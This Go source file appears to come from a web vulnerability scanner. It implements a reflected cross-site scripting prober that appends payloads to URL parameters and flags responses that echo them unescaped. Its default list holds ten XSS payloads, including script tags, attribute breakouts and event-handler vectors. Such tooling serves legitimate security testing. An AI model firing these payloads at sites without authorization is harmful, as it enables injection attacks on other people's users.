// Package xss provides reflected cross-site scripting detection for URL
// parameters. A payload is confirmed when its raw form appears in the
// response; HTML-escaped reflections are treated as safe.
package xss

import (
	"context"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/spaolacci/murmur3"

	"github.com/parascan/parascan/pkg/attackconfig"
	"github.com/parascan/parascan/pkg/finding"
	"github.com/parascan/parascan/pkg/httpclient"
	"github.com/parascan/parascan/pkg/iohelper"
	"github.com/parascan/parascan/pkg/param"
)

// Payload represents one XSS payload.
type Payload struct {
	Value       string
	Description string
}

// Config holds configuration for the XSS prober.
type Config struct {
	attackconfig.Base
}

// DefaultConfig returns a default configuration.
func DefaultConfig() *Config {
	return &Config{Base: attackconfig.DefaultBase()}
}

// Prober tests individual parameters for reflected XSS.
type Prober struct {
	cfg      *Config
	client   *http.Client
	payloads []Payload
}

// NewProber creates an XSS prober.
func NewProber(cfg *Config) *Prober {
	if cfg == nil {
		cfg = DefaultConfig()
	}
	cfg.Validate()

	client := cfg.Client
	if client == nil {
		client = httpclient.Default()
	}

	return &Prober{
		cfg:      cfg,
		client:   client,
		payloads: defaultPayloads(),
	}
}

func defaultPayloads() []Payload {
	return []Payload{
		{"<script>alert('pscan')</script>", "Script tag"},
		{"<ScRiPt>alert('pscan')</ScRiPt>", "Case-varied script tag"},
		{"\"><script>alert('pscan')</script>", "Attribute breakout, double quote"},
		{"'><script>alert('pscan')</script>", "Attribute breakout, single quote"},
		{"<img src=x onerror=alert('pscan')>", "Image onerror handler"},
		{"<svg/onload=alert('pscan')>", "SVG onload handler"},
		{"<details/open/ontoggle=alert('pscan')>", "Details ontoggle handler"},
		{"javascript:alert('pscan')", "javascript: URI"},
		{"<iframe src=\"javascript:alert('pscan')\"></iframe>", "Iframe javascript: src"},
		{"<marquee onstart=alert('pscan')>x</marquee>", "Marquee onstart handler"},
	}
}

// Payloads returns the prober's payload set.
func (p *Prober) Payloads() []Payload {
	out := make([]Payload, len(p.payloads))
	copy(out, p.payloads)
	return out
}

// SetPayloads replaces the payload set, e.g. with a tuned list for the
// target. Probing with an empty set returns finding.ErrNoPayloads.
func (p *Prober) SetPayloads(payloads []Payload) {
	p.payloads = payloads
}

// Name implements the probe interface.
func (p *Prober) Name() string { return "xss" }

// TestParameter probes one parameter for reflected XSS. The payload is
// appended to the observed value; the raw payload appearing in the
// response confirms reflection. A response that only contains the
// HTML-escaped form is properly encoded output, not a finding.
func (p *Prober) TestParameter(ctx context.Context, target string, obs param.Observation) ([]finding.Finding, error) {
	if len(p.payloads) == 0 {
		return nil, finding.ErrNoPayloads
	}

	baseBody, err := p.fetch(ctx, target, obs.Name, obs.Value)
	if err != nil {
		return nil, fmt.Errorf("baseline request: %w", err)
	}
	baseHash := murmur3.Sum64(baseBody)

	for _, payload := range p.payloads {
		if err := ctx.Err(); err != nil {
			return nil, err
		}

		body, err := p.fetch(ctx, target, obs.Name, obs.Value+payload.Value)
		if err != nil {
			return nil, fmt.Errorf("payload request: %w", err)
		}
		if murmur3.Sum64(body) == baseHash {
			continue
		}

		text := string(body)
		idx := strings.Index(text, payload.Value)
		if idx < 0 {
			continue
		}
		// Raw payload present. If only the escaped form were present
		// the Index above would not have matched, so this is a real
		// unescaped reflection unless payload and escape coincide.
		if escaped := html.EscapeString(payload.Value); escaped == payload.Value {
			// Payload has no escapable characters; reflection alone
			// is not executable. Skip.
			continue
		}

		return []finding.Finding{{
			Target:    target,
			Parameter: obs.Name,
			ParamKind: string(obs.Kind),
			Type:      "reflected-xss",
			Payload:   payload.Value,
			Evidence:  snippet(text, idx, len(payload.Value)),
			URL:       p.testURL(target, obs.Name, obs.Value+payload.Value),
			Severity:  finding.Medium,
			Timestamp: time.Now().UTC(),
		}}, nil
	}

	return nil, nil
}

// snippet extracts context around the reflected payload for evidence.
func snippet(body string, idx, payloadLen int) string {
	const margin = 100
	start := idx - margin
	if start < 0 {
		start = 0
	}
	end := idx + payloadLen + margin
	if end > len(body) {
		end = len(body)
	}
	return strings.TrimSpace(body[start:end])
}

func (p *Prober) fetch(ctx context.Context, target, name, value string) ([]byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, p.testURL(target, name, value), nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("User-Agent", p.cfg.UserAgent)

	resp, err := p.client.Do(req)
	if err != nil {
		return nil, httpclient.ClassifyError(err)
	}
	defer iohelper.DrainAndClose(resp.Body)

	return iohelper.ReadBodyDefault(resp.Body)
}

func (p *Prober) testURL(target, name, value string) string {
	parsed, err := url.Parse(target)
	if err != nil {
		return target
	}
	q := parsed.Query()
	q.Set(name, value)
	parsed.RawQuery = q.Encode()
	return parsed.String()
}
